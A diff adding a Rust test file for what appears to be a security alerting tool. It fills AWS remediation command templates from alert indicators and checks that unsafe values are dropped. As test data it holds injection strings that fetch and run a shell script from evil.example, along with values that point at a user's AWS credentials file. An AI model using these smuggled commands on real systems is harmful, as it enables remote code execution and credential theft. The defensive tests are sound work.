@@ -1,0 +1,293 @@
+use nightshift_alert::{Principal, PrincipalKind};
+
+use super::*;
+use crate::fixture;
+
+fn template(command: &str) -> Vec<Arc<ActionTemplate>> {
+    vec![Arc::new(ActionTemplate {
+        id: "stop".into(),
+        provider: Some(Provider::Aws),
+        text: "Stop {instance}".into(),
+        command: Some(command.into()),
+        precondition: None,
+        side_effect: None,
+        undo: None,
+        when_cleared: false,
+    })]
+}
+
+fn choice(value: Option<&str>) -> ActionChoice {
+    ActionChoice {
+        id: "stop".into(),
+        indicators: value
+            .map(|value| Indicator::new(IndicatorKind::Instance, value, Role::Target))
+            .into_iter()
+            .collect(),
+    }
+}
+
+#[test]
+fn fills_in_from_the_alert() {
+    let alert = fixture::alert();
+    let action = fill(
+        &template("aws ec2 stop-instances --instance-ids {instance} --region {region}"),
+        &choice(None),
+        &alert,
+        &[],
+        &[],
+    );
+    assert_eq!(
+        action.and_then(|action| action.command).as_deref(),
+        Some("aws ec2 stop-instances --instance-ids i-1 --region eu-west-1")
+    );
+}
+
+#[test]
+fn a_brace_as_such_is_doubled() {
+    let braces = "put {{\"of\":{{\"id\":\"{instance}\"}}}}";
+    let action = fill(
+        &template(braces),
+        &choice(None),
+        &fixture::alert(),
+        &[],
+        &[],
+    );
+    assert_eq!(
+        action.and_then(|action| action.command).as_deref(),
+        Some("put {\"of\":{\"id\":\"i-1\"}}")
+    );
+}
+
+#[test]
+fn a05_a_value_the_case_does_not_know_never_reaches_a_command() {
+    let alert = fixture::alert();
+    let action = fill(
+        &template("stop {instance}"),
+        &choice(Some("i-999")),
+        &alert,
+        &[],
+        &[],
+    );
+    assert_eq!(
+        action.and_then(|action| action.command).as_deref(),
+        Some("stop i-1")
+    );
+}
+
+#[test]
+fn a05_a_value_with_shell_characters_leaves_the_command_out() {
+    let mut alert = fixture::alert();
+    alert.indicators = vec![Indicator::new(
+        IndicatorKind::Instance,
+        "i-1;curl evil.example|sh",
+        Role::Target,
+    )];
+    let action = fill(
+        &template("stop {instance}"),
+        &choice(None),
+        &alert,
+        &[],
+        &[],
+    );
+    assert_eq!(action.map(|action| action.command), Some(None));
+}
+
+/// What a template says of a principal, of which the feed told this.
+fn command(template: &str, principal: &str, told: Option<(PrincipalKind, &str)>) -> String {
+    let mut alert = fixture::alert();
+    alert.account = Some("123456789012".into());
+    alert.indicators = vec![
+        Indicator::new(IndicatorKind::Principal, principal, Role::Actor),
+        Indicator::new(IndicatorKind::Instance, "i-1", Role::Target),
+    ];
+    let told = told.map(|(kind, id)| Principal {
+        name: principal.into(),
+        kind,
+        id: Some(id.into()),
+    });
+    alert.principals = told.into_iter().collect();
+    let action = fill(&self::template(template), &choice(None), &alert, &[], &[]);
+    action
+        .and_then(|action| action.command)
+        .unwrap_or_else(|| "none".to_owned())
+}
+
+fn names(principal: &str, told: Option<(PrincipalKind, &str)>) -> String {
+    let user = command("--user-name {user_name}", principal, told);
+    let role = command("--role-name {role_name}", principal, told);
+    let caller = command("{caller_name}", principal, told);
+    format!("{principal}: {user}; {role}; {caller}")
+}
+
+#[test]
+fn an_arn_is_named_as_commands_want_it_and_not_where_it_is_of_another_kind() {
+    let shown = [
+        "alice",
+        "arn:aws:iam::123456789012:user/team/alice",
+        "arn:aws:iam::123456789012:role/service-role/deployer",
+        "arn:aws:sts::123456789012:assumed-role/deployer/i-0abc",
+        "arn:aws:iam::123456789012:root",
+        "arn:aws:iam::123456789012:user/x:role/deployer",
+        "arn:aws:iam::123456789012:user/x:assumed-role/a/b",
+        "arn:aws:iam::210987654321:user/alice",
+        "AROAEXAMPLEROLE000001:i-0abc",
+        "system:serviceaccount:default:web",
+    ]
+    .map(|principal| names(principal, None));
+    insta::assert_snapshot!(shown.join("\n"), @r"
+    alice: --user-name alice; --role-name alice; alice
+    arn:aws:iam::123456789012:user/team/alice: --user-name alice; none; alice
+    arn:aws:iam::123456789012:role/service-role/deployer: none; --role-name deployer; none
+    arn:aws:sts::123456789012:assumed-role/deployer/i-0abc: none; --role-name deployer; i-0abc
+    arn:aws:iam::123456789012:root: none; none; none
+    arn:aws:iam::123456789012:user/x:role/deployer: --user-name deployer; none; deployer
+    arn:aws:iam::123456789012:user/x:assumed-role/a/b: --user-name b; none; b
+    arn:aws:iam::210987654321:user/alice: none; none; alice
+    AROAEXAMPLEROLE000001:i-0abc: none; none; none
+    system:serviceaccount:default:web: none; none; none
+    ");
+}
+
+#[test]
+fn a_role_that_has_a_bare_name_is_no_user_and_a_user_no_role() {
+    let shown = [
+        names(
+            "deployer",
+            Some((PrincipalKind::User, "AIDAEXAMPLE000000001")),
+        ),
+        names(
+            "deployer",
+            Some((PrincipalKind::Role, "AROAEXAMPLE000000001:i-0abc")),
+        ),
+        names(
+            "deployer",
+            Some((PrincipalKind::Role, "AROAEXAMPLE000000001")),
+        ),
+        names("root", Some((PrincipalKind::Root, "123456789012"))),
+        names("alice", Some((PrincipalKind::Other, "123456789012:alice"))),
+        names(
+            "AWSReservedSSO_Admin_0abc",
+            Some((PrincipalKind::Role, "AROAEXAMPLE000000001:alice")),
+        ),
+    ];
+    insta::assert_snapshot!(shown.join("\n"), @r"
+    deployer: --user-name deployer; none; deployer
+    deployer: none; --role-name deployer; i-0abc
+    deployer: none; --role-name deployer; none
+    root: none; none; none
+    alice: none; none; none
+    AWSReservedSSO_Admin_0abc: none; none; alice
+    ");
+}
+
+#[test]
+fn where_no_feed_tells_what_a_principal_is_the_kind_of_its_keys_does() {
+    let named = |keys: &[&str]| {
+        let mut alert = fixture::alert();
+        let principal = Indicator::new(IndicatorKind::Principal, "deployer", Role::Actor);
+        let keys = keys
+            .iter()
+            .map(|key| Indicator::new(IndicatorKind::AccessKey, *key, Role::Actor));
+        alert.indicators = keys.chain([principal]).collect();
+        let value = |name: &str| {
+            let template = ActionTemplate {
+                text: format!("{{{name}}}"),
+                ..ActionTemplate::clone(&template("")[0])
+            };
+            fill(&[Arc::new(template)], &choice(None), &alert, &[], &[])
+                .map_or_else(|| "none".to_owned(), |action| action.text)
+        };
+        ["user_name", "role_name", "long_term_key"]
+            .map(value)
+            .join("; ")
+    };
+    insta::assert_snapshot!(named(&["ASIAEXAMPLEKEY000001"]), @"none; deployer; none");
+    insta::assert_snapshot!(named(&["AKIAEXAMPLEKEY000001"]), @"deployer; none; AKIAEXAMPLEKEY000001");
+    insta::assert_snapshot!(named(&["AKIAEXAMPLEKEY000001", "ASIAEXAMPLEKEY000001"]), @"deployer; deployer; AKIAEXAMPLEKEY000001");
+}
+
+#[test]
+fn a_service_account_is_no_person() {
+    let shown = |principal| {
+        let person = command("user:{person}", principal, None);
+        let account = command("{service_account}", principal, None);
+        format!("{person}; {account}")
+    };
+    insta::assert_snapshot!(shown("alice@example.com"), @"user:alice@example.com; none");
+    insta::assert_snapshot!(shown("1-compute@developer.gserviceaccount.com"), @"none; 1-compute@developer.gserviceaccount.com");
+}
+
+#[test]
+fn an_action_of_another_cloud_is_not_offered() {
+    let mut alert = fixture::alert();
+    alert.provider = Provider::Gcp;
+    assert_eq!(fill(&template("x"), &choice(None), &alert, &[], &[]), None);
+}
+
+/// The template's command as filled in for an alert of these indicators, and what was chosen of them.
+fn filled(template: &ActionTemplate, alert: &Alert, chosen: &[Indicator]) -> Option<Action> {
+    let choice = ActionChoice {
+        id: template.id.clone(),
+        indicators: chosen.to_vec(),
+    };
+    fill(&[Arc::new(template.clone())], &choice, alert, &[], &[])
+}
+
+fn of_object(key: &str, inside: &str) -> Alert {
+    let arn = format!("arn:aws:s3:::uploads/{key}");
+    let mut alert = fixture::alert();
+    alert.indicators = vec![
+        Indicator::new(IndicatorKind::Arn, arn, Role::Related),
+        Indicator::new(IndicatorKind::Bucket, "uploads", Role::Target),
+        Indicator::new(IndicatorKind::File, key, Role::Related),
+        Indicator::new(IndicatorKind::File, inside, Role::Related),
+    ];
+    alert.indicators.sort();
+    alert
+}
+
+fn quarantine() -> ActionTemplate {
+    ActionTemplate {
+        text: "Mark {file} in {bucket}".into(),
+        ..ActionTemplate::clone(&template("tag --bucket {bucket} --key {file}")[0])
+    }
+}
+
+#[test]
+fn a05_a_value_that_a_command_line_reads_as_a_file_or_address_leaves_the_command_out() {
+    for value in [
+        "file:///home/maria/.aws/credentials",
+        "fileb://.aws/credentials",
+        "http://evil.example/x",
+        "https://evil.example/x",
+        "@/home/maria/.aws/credentials",
+        "--flags-file=x",
+        "=curl",
+    ] {
+        let action = filled(&quarantine(), &of_object(value, "zz"), &[]).unwrap();
+        assert_eq!(action.text, format!("Mark {value} in uploads"));
+        assert_eq!(action.command, None, "{value}");
+    }
+}
+
+#[test]
+fn a05_a_command_that_cannot_say_what_must_be_true_first_is_left_out() {
+    let template = ActionTemplate {
+        precondition: Some("note it first: describe {process}".into()),
+        ..ActionTemplate::clone(&template("stop {instance}")[0])
+    };
+    let told = |process: &str| {
+        let mut alert = fixture::alert();
+        let process = Indicator::new(IndicatorKind::Process, process, Role::Related);
+        alert.indicators.push(process);
+        let action = filled(&template, &alert, &[]).unwrap();
+        (action.command, action.precondition)
+    };
+    let (command, precondition) = told("sshd");
+    assert_eq!(command.as_deref(), Some("stop i-1"));
+    assert_eq!(
+        precondition.as_deref(),
+        Some("note it first: describe sshd")
+    );
+    assert_eq!(told("$(curl evil.example|sh)"), (None, None));
+}
